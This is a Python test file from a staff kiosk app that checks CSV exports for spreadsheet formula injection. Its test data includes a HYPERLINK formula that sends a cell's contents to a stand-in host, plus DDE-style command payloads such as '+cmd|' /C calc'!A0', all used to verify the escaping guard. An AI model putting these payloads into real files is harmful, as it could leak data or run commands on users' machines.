"""Finding 18: the working-list CSV keeps numbers as numbers and phone numbers as typed, and
guards only text that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from tests.web.staff_kiosk import register


def _export(kiosk, which: str) -> list[list[str]]:
    text = kiosk.client.get(f"/staff/lists/{which}.csv").get_data(as_text=True)
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_f18_csv_numbers_stay_numbers_and_formulas_are_guarded(kiosk, tech_card, core):
    kiosk.login(tech_card)
    resident_id = register(kiosk, "王秀华")
    kiosk.post(f"/staff/residents/{resident_id}/enrol", plan="contraceptive-supply",
               anchor_enrolment_date="2026-08-01", action="enrol")
    # what an older system or a hand edit could leave in the table
    core.db.execute("UPDATE residents SET phone = '+86 138 0013 8000', village = ? WHERE id = ?",
                    ('=HYPERLINK("http://x/?"&A2)', resident_id))
    rows = [r for r in _export(kiosk, "overdue")[1:] if r[0] == resident_id]
    assert rows, "the resident's overdue item is in the export"
    row = rows[0]
    assert row[3] == "+86 138 0013 8000"
    assert row[2] == '\'=HYPERLINK("http://x/?"&A2)'
    assert int(row[9]) > 0 and not row[9].startswith("'")


@pytest.mark.parametrize("value, cell", [
    (-4, -4), (3.5, 3.5), ("-4", "-4"), ("+86 138 0013 8000", "+86 138 0013 8000"),
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3+cmd|x!A0",
                                                                       "'-2+3+cmd|x!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("王秀华", "王秀华"),
    (None, ""), ("a=b", "a=b")])
def test_f18_csv_cell_rule(value, cell):
    from kiosk.web.csv_export import safe_cell
    assert safe_cell(value) == cell
